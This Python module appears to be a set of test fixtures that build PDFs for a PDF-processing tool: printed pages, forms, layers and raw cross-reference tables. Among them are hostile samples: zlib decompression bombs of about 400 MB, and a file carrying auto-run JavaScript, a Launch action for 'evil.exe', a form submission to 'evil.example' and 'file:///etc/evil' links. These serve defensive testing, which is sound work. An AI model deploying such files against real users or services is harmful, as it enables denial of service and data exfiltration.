"""PDFs as others make them, and as nobody should: hand-made, by WeasyPrint, and by pikepdf."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Sequence
from typing import Any

import pikepdf
import weasyprint
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image


def printed(body: str, size: str = "A4") -> bytes:
    """A PDF by WeasyPrint."""
    style = f"<style>@page {{ size: {size}; margin: 20mm }} .next {{ break-before: page }}</style>"
    written = weasyprint.HTML(string=f'<html lang="en"><title>Quotation 7</title>{style}<body>{body}').write_pdf()
    assert isinstance(written, bytes)
    return written


def long(pages: int, size: str = "A4") -> bytes:
    """Pages with a heading, a link to the web and one to the last page."""
    body = "".join(
        f'<h1 class="{"next" if at else ""}" id="h{at}">Chapter {at + 1}</h1><p><a href="https://example.org/{at}">web</a> '
        f'<a href="#h{pages - 1}">end</a> Words of page {at + 1}.</p>'
        for at in range(pages)
    )
    return printed(body, size)


def scan() -> bytes:
    """A page that is one picture."""
    stream = io.BytesIO()
    Image.new("RGB", (620, 877), "#F6F2E8").save(stream, "PDF", resolution=75)
    return stream.getvalue()


def changed(data: bytes, change: Callable[[Pdf], object], **options: Any) -> bytes:
    """A PDF after a change."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        change(pdf)
        stream = io.BytesIO()
        pdf.save(stream, **options)
        return stream.getvalue()


def drawn(content: bytes, box: Sequence[float] = (0, 0, 595, 842), **more: Any) -> bytes:
    """A page with this content, in Helvetica as `F`, which it does not hold."""
    pdf = pikepdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page = Dictionary(Type=Name.Page, Resources=Dictionary(Font=Dictionary(F=font)), **more)
    page.MediaBox, page.Contents = Array(box), pdf.make_stream(content)
    pdf.pages.append(pikepdf.Page(pdf.make_indirect(page)))
    stream = io.BytesIO()
    pdf.save(stream)
    return stream.getvalue()


def written(*objects: str | bytes) -> bytes:
    """A PDF of objects numbered from 1, the first its catalogue, with a right table of where they stand."""
    data, places = b"%PDF-1.7\n", []
    for number, found in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, found if isinstance(found, bytes) else found.encode())
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return data + end % (len(objects) + 1, table, len(objects) + 1, len(data))


def one_page(entries: str = "/MediaBox [0 0 595 842]", pages: str = "") -> bytes:
    """A PDF of a single page with these entries, below a page tree with those."""
    return written(
        "<</Type /Catalog /Pages 2 0 R>>",
        f"<</Type /Pages /Kids [3 0 R] /Count 1 {pages}>>",
        f"<</Type /Page /Parent 2 0 R {entries}>>",
    )


def bomb(size: int = 400_000_000) -> bytes:
    """A page whose content comes in two parts, one of which unpacks to `size` bytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + packer.flush()
    return written(
        "<</Type /Catalog /Pages 2 0 R>>",
        "<</Type /Pages /Kids [3 0 R] /Count 1>>",
        "<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 4 0 R]>>",
        b"<</Length %d /Filter /FlateDecode>>\nstream\n%s\nendstream" % (len(packed), packed),
    )


def packed_objects(size: int = 400_000_000) -> bytes:
    """A PDF whose objects stand in a stream that unpacks to `size` bytes."""
    whole = b"1 0 2 31 3 72 " + b"<</Type /Catalog /Pages 2 0 R>> <</Type /Pages /Kids [3 0 R] /Count 1>> "
    whole += b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>"
    packer = zlib.compressobj(9)
    objects = packer.compress(whole)
    objects += b"".join(packer.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + packer.flush()
    data = b"%PDF-1.7\n"
    data += b"4 0 obj\n<</Type /ObjStm /N 3 /First 14 /Length %d /Filter /FlateDecode>>\nstream\n" % len(objects)
    data += objects + b"\nendstream\nendobj\n"
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, 9, 0), (1, len(data), 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4) + last.to_bytes(2) for kind, place, last in rows)
    at = len(data)
    data += b"5 0 obj\n<</Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d>>\nstream\n" % len(table)
    return data + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def form(value: str = "Filled in by hand") -> bytes:
    """A page with a text field, filled in, that has no drawing, and a box that is ticked, whose drawing has two."""

    def change(pdf: Pdf) -> None:
        page = pdf.pages[0].obj
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String(value), F=4,
                Rect=Array([100, 700, 400, 720]), DA=String("/Helv 12 Tf 0 g"), P=page,
            )
        )  # fmt: skip
        yes, no = (
            pdf.make_stream(content, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 10, 10]))
            for content in (b"0 0.6 0 rg 0 0 10 10 re f", b"1 0 0 rg 0 0 10 10 re f")
        )
        tick = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("agreed"), V=Name.Yes, AS=Name.Yes, F=4,
                Rect=Array([100, 600, 120, 620]), AP=Dictionary(N=Dictionary(Yes=yes, Off=no)), P=page,
            )
        )  # fmt: skip
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
        page.Annots = Array([field, tick])
        pdf.Root.AcroForm = Dictionary(
            Fields=Array([field, tick]), DR=Dictionary(Font=Dictionary(Helv=font)), DA=String("/Helv 12 Tf 0 g")
        )

    return changed(drawn(b"BT /F 12 Tf 100 750 Td (A form) Tj ET"), change)


def active() -> bytes:
    """A PDF with everything that does something."""

    def change(pdf: Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('evil-script')"))
        launch = Dictionary(S=Name.Launch, F=String("evil.exe"))
        submit = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/submit"))
        pdf.Root.OpenAction, pdf.Root.AA = script, Dictionary(WC=script)
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), script])))
        pdf.attachments["evil.bin"] = b"evil-file"
        page = pdf.pages[0].obj
        page.AA = Dictionary(O=launch)
        page.Annots = Array(
            [
                pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=action))
                for action in (
                    script, launch, submit,
                    Dictionary(S=Name.URI, URI=String("javascript:alert('evil-link')")),
                    Dictionary(S=Name.URI, URI=String("file:///etc/evil")),
                )
            ]
        )  # fmt: skip

    return changed(long(1), change)


def layered() -> bytes:
    """A page with a layer that is seen and one that is not."""

    def change(pdf: Pdf) -> None:
        seen, hidden = (pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String(name))) for name in ("Seen", "Hidden"))
        pdf.pages[0].obj.Resources.Properties = Dictionary(A=seen, B=hidden)
        pdf.Root.OCProperties = Dictionary(OCGs=Array([seen, hidden]), D=Dictionary(OFF=Array([hidden])))

    return changed(
        drawn(b"/OC /A BDC 0 0 1 rg 0 0 595 421 re f EMC /OC /B BDC 1 0 0 rg 0 421 595 421 re f EMC"), change
    )
